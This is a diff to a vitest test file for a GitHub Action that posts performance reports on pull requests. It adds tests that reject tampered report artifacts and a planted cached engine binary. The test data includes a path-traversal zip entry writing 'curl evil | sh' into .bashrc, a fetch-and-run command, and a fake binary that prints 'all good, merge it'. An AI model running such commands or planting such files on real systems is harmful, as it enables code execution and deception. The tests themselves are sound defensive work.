@@ -1,11 +1,13 @@
 import { strToU8, zipSync } from 'fflate'
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import * as path from 'node:path'
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
-import { runCommentStage } from '../src/comment-stage.js'
+import { reproduceFlags, runCommentStage } from '../src/comment-stage.js'
+import { goVersion, sourceHash } from '../src/engine.js'
 import { describeEvent } from '../src/event.js'
 import { getInputs } from '../src/inputs.js'
+import { toolDir } from '../src/paths.js'
 import { FakeGitHub } from './support/fake-github.js'
 import { claimSize } from './support/zip.js'
 
@@ -71,6 +73,46 @@ describe('runCommentStage', () => {
     expect(readFileSync(process.env.GITHUB_STEP_SUMMARY!, 'utf8')).toContain('perfgate')
   }, 180_000)
 
+  it("builds its comment's reproduce command from the workflow's inputs and the run's head commit, not from the artifact", async () => {
+    const hostile = JSON.parse(realReport.toString('utf8')) as { command: string[]; build: { base: { revision: string } } }
+    hostile.command = ['perfgate', 'gate', '--config', 'attacker/perfgate.yml', '--base', 'x']
+    hostile.build.base.revision = 'badbadbadbadbad'
+    gh.artifacts.set(42, [artifact({ 'report.json': strToU8(JSON.stringify(hostile)) })])
+    const nested = getInputs((n) => ({ mode: 'comment', token: 't0ken', 'working-directory': 'services/api', config: 'services/api/perf/perfgate.yml' })[n] ?? '')
+    await runCommentStage(nested, event())
+    const [c] = gh.comments.get(7) ?? []
+    const reproduce = c.body.slice(c.body.indexOf('<summary>Reproduce locally</summary>'))
+    expect(reproduce).toContain(`<pre>git checkout ${headSha}\nsudo perfgate gate --config perf/perfgate.yml --base &lt;base&gt; --head . --out results/ --seed `)
+    expect(reproduce).not.toMatch(/attacker|badbad/)
+  }, 180_000)
+
+  it('never runs an engine binary found in the tool cache', async () => {
+    // What an earlier pull request's job on a self-hosted runner could leave
+    // where buildEngine looks for a cached engine.
+    const engineDir = path.join(import.meta.dirname, '../engine')
+    const planted = path.join(toolDir(), `perfgate-engine-${process.platform}-${process.arch}-${await goVersion()}-${await sourceHash(engineDir)}`, 'perfgate')
+    const ran = path.join(tmp, 'planted-ran')
+    mkdirSync(path.dirname(planted), { recursive: true })
+    writeFileSync(planted, `#!/bin/sh\ntouch '${ran}'\necho '<!-- perfgate:report -->'\necho 'PLANTED: all good, merge it'\n`)
+    chmodSync(planted, 0o755)
+    try {
+      gh.artifacts.set(42, [artifact({ 'report.json': realReport })])
+      await runCommentStage(inputs, event())
+      const [c] = gh.comments.get(7) ?? []
+      expect(c.body).not.toContain('PLANTED')
+      expect(c.body).toContain('fmt\\.Sprintf')
+      expect(existsSync(ran)).toBe(false)
+    } finally {
+      rmSync(path.dirname(planted), { recursive: true, force: true })
+    }
+  }, 180_000)
+
+  it('refuses a report.json whose keys the engine and the action would read differently, naming the key', async () => {
+    gh.artifacts.set(42, [artifact({ 'report.json': strToU8('{"schema":1,"verdict":"pass","reason":"","Verdict":"regression"}') })])
+    await expect(runCommentStage(inputs, event())).rejects.toThrow(/not a valid perfgate report: .*"verdict" and "Verdict" at the top level, which differ only in case/)
+    expect(gh.comments.get(7) ?? []).toHaveLength(0)
+  }, 180_000)
+
   it('refuses an artifact with a path that climbs out of the directory', async () => {
     gh.artifacts.set(42, [artifact({ 'report.json': realReport, '../../.bashrc': strToU8('curl evil | sh') })])
     await expect(runCommentStage(inputs, event())).rejects.toThrow(/refusing the results artifact: entry "..\/..\/.bashrc" climbs out/)
@@ -106,5 +148,17 @@ describe('runCommentStage', () => {
     await runCommentStage(inputs, event())
     expect(gh.comments.get(7) ?? []).toHaveLength(0)
     expect(gh.count('actions/list-workflow-run-artifacts')).toBe(0)
+  })
+})
+
+describe('reproduceFlags', () => {
+  it.each([
+    [{}, 'perfgate.yml'],
+    [{ config: 'ci/perfgate.yml' }, 'ci/perfgate.yml'],
+    [{ 'working-directory': 'services/api', config: 'services/api/perfgate.yml' }, 'perfgate.yml'],
+    [{ 'working-directory': 'services/api', config: 'shared/perfgate.yml' }, '../../shared/perfgate.yml']
+  ])('names the config of %j relative to the working directory, as mode gate does', (given, config) => {
+    const flags = reproduceFlags(getInputs((n) => ({ mode: 'comment', ...given })[n as 'mode'] ?? ''), headSha)
+    expect(flags).toEqual(['--reproduce-config', config, '--reproduce-head', headSha])
   })
 })
